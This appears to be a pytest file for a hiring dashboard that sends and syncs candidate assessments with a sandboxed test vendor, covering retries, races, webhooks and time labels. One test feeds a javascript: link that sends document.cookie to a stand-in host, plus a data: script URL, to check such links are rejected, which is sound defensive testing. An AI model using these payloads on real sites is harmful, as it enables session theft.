"""Sending and syncing assessments, on a real database against the sandbox over HTTP."""

import datetime
import time

import pytest
from sqlmodel import select

from dashboard.services import assessments, pipeline, plans, sync
from dashboard.services.actors import POLL, SYSTEM, WEBHOOK
from dashboard.services.errors import UserError
from dashboard.settings import get_settings
from models import ApplicationEvent, AssessmentAttempt, AttemptState
from providers.base import AttemptStatus, Progress
from tests.conftest import at_once


def _enter_assessment(session, p) -> AssessmentAttempt:
    outcome = pipeline.move_application(
        session=session, application_id=p.application.id, stage_id=p.assessment.id, actor=SYSTEM
    )
    return session.get(AssessmentAttempt, outcome.attempt_id)


def _sent(session, p) -> AssessmentAttempt:
    """The application entered the assessment stage and its test was sent."""
    attempt = _enter_assessment(session, p)
    assessments.send_assessment(session=session, attempt_id=attempt.id, actor=SYSTEM)
    session.refresh(attempt)
    return attempt


def test_entering_an_assessment_stage_makes_it_need_sending(session, pipeline_with_assessment, sandbox):
    attempt = _enter_assessment(session, pipeline_with_assessment)

    assert attempt.state == AttemptState.READY_TO_SEND
    [stage_test] = plans.tests_of(session, pipeline_with_assessment.assessment.id)
    assert attempt.vendor_test_name == stage_test.vendor_test_name
    assert attempt.stage_assessment_id == stage_test.id
    assert sandbox.stats()["invitations_created"] == 0


def test_send_creates_the_test_at_the_vendor_with_its_link(session, pipeline_with_assessment, sandbox):
    attempt = _enter_assessment(session, pipeline_with_assessment)

    outcome = assessments.send_assessment(session=session, attempt_id=attempt.id, actor=SYSTEM)

    session.refresh(attempt)
    assert outcome.sent
    assert attempt.state == AttemptState.SENT
    assert attempt.vendor_attempt_id
    assert attempt.test_url.startswith(sandbox.url)
    assert sandbox.stats()["invitations_created"] == 1


def test_two_racing_sends_make_one_invitation(session, pipeline_with_assessment, sandbox):
    attempt = _enter_assessment(session, pipeline_with_assessment)
    sandbox.faults(latency_ms=300)  # keep the first send in flight while the second arrives

    outcomes = at_once(
        4, lambda own: assessments.send_assessment(session=own, attempt_id=attempt.id, actor=SYSTEM)
    )

    assert sum(o.sent for o in outcomes) == 1
    assert sandbox.stats()["invitations_created"] == 1
    session.refresh(attempt)
    assert attempt.state == AttemptState.SENT


def test_a_vendor_failure_is_kept_as_a_retryable_error_and_retry_sends_once(
    session, pipeline_with_assessment, sandbox
):
    attempt = _enter_assessment(session, pipeline_with_assessment)
    sandbox.faults(fail_next=[{"status": 503}])

    outcome = assessments.send_assessment(session=session, attempt_id=attempt.id, actor=SYSTEM)

    session.refresh(attempt)
    assert not outcome.sent
    assert attempt.state == AttemptState.ERROR
    assert attempt.error_retryable
    assert "503" in attempt.error_reason

    retried = assessments.retry_assessment(session=session, attempt_id=attempt.id, actor=SYSTEM)

    session.refresh(attempt)
    assert retried.sent
    assert attempt.state == AttemptState.SENT
    assert attempt.error_reason is None  # the page no longer shows the failure on a sent test
    assert sandbox.stats()["invitations_created"] == 1


def test_an_attempt_the_vendor_moves_on_from_error_no_longer_shows_the_failure(
    session, pipeline_with_assessment, sandbox
):
    attempt = _sent(session, pipeline_with_assessment)
    vendor_id = attempt.vendor_attempt_id
    for progress, raw in ((Progress.ERROR, "aborted"), (Progress.STARTED, "in_progress")):
        assessments.apply_vendor_status(
            session=session,
            integration_id=attempt.integration_id,
            status=AttemptStatus(vendor_id, progress, raw),
            actor=WEBHOOK,
        )
        session.refresh(attempt)
        assert attempt.state == AttemptState(progress.value)
        assert (attempt.error_reason is not None) == (progress == Progress.ERROR)


def test_a_retry_adopts_an_invitation_the_vendor_made_before_failing(
    session, pipeline_with_assessment, sandbox
):
    attempt = _sent(session, pipeline_with_assessment)
    vendor_id = attempt.vendor_attempt_id
    # Pretend our record of that send was lost (a timeout after the vendor acted).
    attempt.state, attempt.vendor_attempt_id = AttemptState.ERROR, None
    session.add(attempt)
    session.commit()

    assessments.retry_assessment(session=session, attempt_id=attempt.id, actor=SYSTEM)

    session.refresh(attempt)
    assert attempt.state == AttemptState.SENT
    assert attempt.vendor_attempt_id == vendor_id
    assert sandbox.stats()["invitations_created"] == 1


def test_a_retry_after_a_timeout_adopts_the_invitation_the_vendor_made(
    session, pipeline_with_assessment, sandbox, monkeypatch
):
    attempt = _enter_assessment(session, pipeline_with_assessment)
    monkeypatch.setattr(get_settings(), "vendor_timeout_seconds", 0.3)
    sandbox.faults(reply_delay_ms=800)  # the vendor creates the test; its reply comes too late

    first = assessments.send_assessment(session=session, attempt_id=attempt.id, actor=SYSTEM)

    session.refresh(attempt)
    assert not first.sent and attempt.state == AttemptState.ERROR
    assert "did not answer in time" in attempt.error_reason
    time.sleep(0.6)  # let the late reply go out before the faults are cleared
    sandbox.faults()
    assert sandbox.stats()["invitations_created"] == 1

    retried = assessments.retry_assessment(session=session, attempt_id=attempt.id, actor=SYSTEM)

    session.refresh(attempt)
    assert retried.sent and attempt.state == AttemptState.SENT
    assert sandbox.stats()["invitations_created"] == 1


def test_automatic_stage_sends_on_entry(session, pipeline_with_assessment, sandbox):
    stage = pipeline_with_assessment.assessment
    stage.send_automatically = True
    session.add(stage)
    session.commit()

    attempt = _enter_assessment(session, pipeline_with_assessment)

    assert attempt.state == AttemptState.SENT
    assert sandbox.stats()["invitations_created"] == 1


def test_the_poll_catches_a_dropped_webhook_and_brings_the_full_result(
    session, pipeline_with_assessment, sandbox
):
    attempt = _sent(session, pipeline_with_assessment)
    sandbox.faults(drop_webhooks=True)
    # The candidate works 29 minutes (the vendor reports the time from their start to their submit).
    started = datetime.datetime.now(datetime.UTC) + datetime.timedelta(minutes=1)
    sandbox.stop_clock(started)
    sandbox.start(attempt.vendor_attempt_id)
    sandbox.stop_clock(started + datetime.timedelta(minutes=29))
    sandbox.submit(attempt.vendor_attempt_id)
    sandbox.stop_clock(None)

    report = sync.sync_integration(session=session, integration_id=attempt.integration_id)

    session.refresh(attempt)
    assert report.corrected == 1
    assert attempt.state == AttemptState.COMPLETED
    assert 0 <= attempt.score_percent <= 100
    assert attempt.comparative_score is not None
    assert attempt.duration_seconds == 29 * 60 <= attempt.time_allowed_seconds
    assert attempt.points <= attempt.max_points
    assert attempt.subscores and attempt.report_url
    events = session.exec(select(ApplicationEvent).where(ApplicationEvent.attempt_id == attempt.id)).all()
    assert [e.to_state for e in events][-1] == "completed"
    assert events[-1].actor_kind == POLL.kind


def test_a_late_started_after_completed_is_ignored(session, pipeline_with_assessment, sandbox):
    attempt = _sent(session, pipeline_with_assessment)
    sandbox.start(attempt.vendor_attempt_id)
    sandbox.submit(attempt.vendor_attempt_id)
    sync.sync_integration(session=session, integration_id=attempt.integration_id)
    session.refresh(attempt)
    score = attempt.score_percent

    late = AttemptStatus(
        vendor_attempt_id=attempt.vendor_attempt_id, progress=Progress.STARTED, raw_status="in_progress"
    )
    changed = assessments.apply_vendor_status(
        session=session, integration_id=attempt.integration_id, status=late, actor=WEBHOOK
    )

    session.refresh(attempt)
    assert changed == assessments.Applied.UNCHANGED
    assert attempt.state == AttemptState.COMPLETED
    assert attempt.score_percent == score


def test_a_vendor_link_that_is_not_a_web_address_is_never_kept(session, pipeline_with_assessment, sandbox):
    """The review page's "Report (o)" and the application's links open what the vendor said: a
    ``javascript:`` one ran in the hiring manager's signed-in page when opened."""
    attempt = _sent(session, pipeline_with_assessment)
    report_url, test_url = attempt.report_url, attempt.test_url

    assessments.apply_vendor_status(
        session=session,
        integration_id=attempt.integration_id,
        status=AttemptStatus(
            vendor_attempt_id=attempt.vendor_attempt_id,
            progress=Progress.STARTED,
            raw_status="in_progress",
            test_url="data:text/html,<script>alert(1)</script>",
            report_url=" JavaScript:fetch('https://evil.example/?c='+document.cookie)",
        ),
        actor=WEBHOOK,
    )

    session.refresh(attempt)
    assert attempt.state == AttemptState.STARTED  # the rest of the vendor's word is applied
    assert (attempt.report_url, attempt.test_url) == (report_url, test_url)


def test_review_moves_completed_to_reviewed_only_then_and_twice_is_once(
    session, pipeline_with_assessment, sandbox
):
    """A refusal names the status in words. Found by a walk: a double click on "Mark reviewed" toasted "Done." and then the error "Only a
    completed assessment can be reviewed; this one is reviewed." (an unsent one's said "ready_to_send")."""
    attempt = _enter_assessment(session, pipeline_with_assessment)
    with pytest.raises(UserError, match="this one is assessment needs sending"):
        assessments.mark_reviewed(session=session, attempt_id=attempt.id, actor=SYSTEM)
    assessments.send_assessment(session=session, attempt_id=attempt.id, actor=SYSTEM)
    session.refresh(attempt)
    sandbox.start(attempt.vendor_attempt_id)
    sandbox.submit(attempt.vendor_attempt_id)
    sync.sync_integration(session=session, integration_id=attempt.integration_id)

    first = assessments.mark_reviewed(session=session, attempt_id=attempt.id, actor=SYSTEM)
    again = assessments.mark_reviewed(session=session, attempt_id=attempt.id, actor=SYSTEM)

    assert (first.sent, first.message) == (True, "Marked reviewed.")
    assert (again.sent, again.failed, again.message) == (False, False, "Already marked reviewed.")
    session.refresh(attempt)
    assert attempt.state == AttemptState.REVIEWED


def test_time_taken_reads_to_the_tenth_of_a_minute_even_on_a_whole_minute():
    """Found by a walk: the review page's Time column read "29 min" next to "28.9 min"."""
    labels = [assessments.time_taken_label(taken, 60) for taken in (29.0, 28.9, 0.5)]

    assert labels == ["29.0 min of 60 min", "28.9 min of 60 min", "0.5 min of 60 min"]
    assert assessments.time_taken_label(29.0, None) == "29.0 min"
    assert assessments.time_taken_label(None, 60) == ""


def test_a_time_taken_of_seconds_reads_under_a_minute_not_zero():
    """HackerRank's and CodeSignal's results read "0.0 min of 75 min" when the vendor stamped the
    start and the end in the same second: a broken figure, or no time at all, to a reader."""
    labels = [assessments.time_taken_label(assessments.minutes(seconds), 75) for seconds in (0, 2, 3, 59)]

    assert labels == [
        "under 1 min of 75 min",
        "under 1 min of 75 min",
        "0.1 min of 75 min",
        "1.0 min of 75 min",
    ]
    assert assessments.time_taken_label(0.0, None) == "under 1 min"
